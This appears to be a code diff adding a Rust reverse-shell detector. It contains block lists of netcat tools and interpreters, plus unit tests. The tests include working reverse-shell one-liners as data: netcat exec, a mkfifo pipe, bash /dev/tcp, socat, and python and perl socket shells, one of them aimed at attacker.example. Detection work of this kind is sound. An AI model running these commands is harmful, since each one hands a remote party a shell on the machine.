@@ -0,0 +1,225 @@
+//! Reverse shell detection.
+//!
+//! Recognizes the classic one-liners that hand a shell to a remote listener:
+//!
+//! - `netcat_exec`: `nc -e /bin/sh host port` (also `-c`, `ncat --sh-exec`)
+//! - `netcat_pipe_to_shell`: netcat, telnet, or socat piped into a shell
+//!   (`mkfifo f; cat f | sh -i 2>&1 | nc host port > f`)
+//! - `socat_exec`: `socat exec:'bash -li',pty tcp:host:port`
+//! - `dev_tcp`: bash network redirection (`bash -i >& /dev/tcp/host/port 0>&1`)
+//! - `socket_shell`: a python, perl, ruby, php, or node script that connects
+//!   a socket and spawns a shell
+
+use crate::shell::{self, Word};
+
+/// Programs that open raw network connections.
+const NETCAT: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
+
+/// Script interpreters used for socket shells.
+const SCRIPT_INTERPRETERS: &[&str] = &[
+    "python", "python2", "python3", "perl", "ruby", "php", "node",
+];
+
+/// Script fragments that spawn a shell or process.
+const SPAWN_MARKERS: &[&str] = &[
+    "dup2",
+    "pty.spawn",
+    "subprocess",
+    "exec(",
+    "exec \"",
+    "exec '",
+    "spawn",
+    "popen",
+    "/bin/sh",
+    "/bin/bash",
+    "system(",
+    "child_process",
+];
+
+/// A detected reverse shell.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ReverseShell {
+    /// Technique identifier, e.g. `netcat_exec`.
+    pub technique: &'static str,
+    /// The offending part of the command.
+    pub matched: String,
+}
+
+/// Detect a reverse shell one-liner.
+pub fn detect(command: &str) -> Option<ReverseShell> {
+    for pipeline in shell::pipelines(&shell::tokenize(command)) {
+        if pipeline.iter().any(|words| is_connector(words))
+            && pipeline.iter().any(|words| is_shell(words))
+        {
+            return Some(ReverseShell {
+                technique: "netcat_pipe_to_shell",
+                matched: render_pipeline(&pipeline),
+            });
+        }
+
+        for words in &pipeline {
+            if let Some(technique) = technique(words) {
+                return Some(ReverseShell {
+                    technique,
+                    matched: render(words),
+                });
+            }
+        }
+    }
+
+    None
+}
+
+/// The reverse shell technique of a simple command, if any.
+fn technique(words: &[Word]) -> Option<&'static str> {
+    if words
+        .iter()
+        .any(|w| w.text.contains("/dev/tcp/") || w.text.contains("/dev/udp/"))
+    {
+        return Some("dev_tcp");
+    }
+
+    let program = shell::program_index(words)?;
+    let name = words[program].program_name();
+    let args = &words[program + 1..];
+
+    if NETCAT.contains(&name) && args.iter().any(|a| is_exec_option(&a.text)) {
+        return Some("netcat_exec");
+    }
+    if name == "socat" && args.iter().any(|a| is_socat_exec(&a.text)) {
+        return Some("socat_exec");
+    }
+    if SCRIPT_INTERPRETERS.contains(&name) && args.iter().any(|a| is_socket_shell(&a.text)) {
+        return Some("socket_shell");
+    }
+
+    None
+}
+
+/// Whether a netcat option runs a program (`-e`, `-c`, `--exec`,
+/// `--sh-exec`, or a cluster like `-nve`).
+fn is_exec_option(text: &str) -> bool {
+    if let Some(long) = text.strip_prefix("--") {
+        let name = long.split('=').next().unwrap_or(long);
+        return matches!(name, "exec" | "sh-exec" | "lua-exec");
+    }
+    text.strip_prefix('-')
+        .is_some_and(|flags| flags.contains(['e', 'c']))
+}
+
+/// Whether a socat address runs a program (`exec:`, `system:`).
+fn is_socat_exec(text: &str) -> bool {
+    let lower = text.to_lowercase();
+    lower.starts_with("exec:") || lower.starts_with("system:")
+}
+
+/// Whether script text connects a socket and spawns a shell.
+fn is_socket_shell(script: &str) -> bool {
+    let lower = script.to_lowercase();
+    (lower.contains("socket") || lower.contains("tcpsocket") || lower.contains("fsockopen"))
+        && SPAWN_MARKERS.iter().any(|m| lower.contains(m))
+}
+
+/// Whether a simple command opens a raw network connection.
+fn is_connector(words: &[Word]) -> bool {
+    shell::program_index(words).is_some_and(|i| {
+        let name = words[i].program_name();
+        NETCAT.contains(&name) || name == "telnet" || name == "socat"
+    })
+}
+
+/// Whether a simple command runs a shell.
+fn is_shell(words: &[Word]) -> bool {
+    shell::program_index(words).is_some_and(|i| {
+        matches!(
+            words[i].program_name(),
+            "sh" | "bash" | "zsh" | "dash" | "ksh"
+        )
+    })
+}
+
+/// Render a simple command for display.
+fn render(words: &[Word]) -> String {
+    let parts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
+    parts.join(" ")
+}
+
+/// Render a pipeline for display.
+fn render_pipeline(pipeline: &[Vec<Word>]) -> String {
+    let parts: Vec<String> = pipeline.iter().map(|words| render(words)).collect();
+    parts.join(" | ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn technique(command: &str) -> Option<&'static str> {
+        detect(command).map(|r| r.technique)
+    }
+
+    #[test]
+    fn test_netcat() {
+        assert_eq!(
+            technique("nc -e /bin/sh 10.0.0.1 4444"),
+            Some("netcat_exec")
+        );
+        assert_eq!(
+            technique("nc -nve /bin/bash 10.0.0.1 4444"),
+            Some("netcat_exec")
+        );
+        assert_eq!(
+            technique("ncat --sh-exec 'bash -i' attacker.example 443"),
+            Some("netcat_exec")
+        );
+        assert_eq!(
+            technique("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f"),
+            Some("netcat_pipe_to_shell")
+        );
+    }
+
+    #[test]
+    fn test_dev_tcp() {
+        assert_eq!(
+            technique("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+            Some("dev_tcp")
+        );
+        assert_eq!(
+            technique("bash -c 'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | bash'"),
+            Some("dev_tcp")
+        );
+    }
+
+    #[test]
+    fn test_socat_and_scripts() {
+        assert_eq!(
+            technique("socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444"),
+            Some("socat_exec")
+        );
+        assert_eq!(
+            technique(
+                "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"
+            ),
+            Some("socket_shell")
+        );
+        assert_eq!(
+            technique(
+                "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec(\"/bin/sh -i\");'"
+            ),
+            Some("socket_shell")
+        );
+    }
+
+    #[test]
+    fn test_benign() {
+        for command in [
+            "nc -zv localhost 5432",
+            "nc -l 8080 > upload.bin",
+            "python3 -c 'import socket; print(socket.gethostname())'",
+            "curl -s http://localhost:8080 | jq .",
+            "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
+        ] {
+            assert_eq!(technique(command), None, "{command}");
+        }
+    }
+}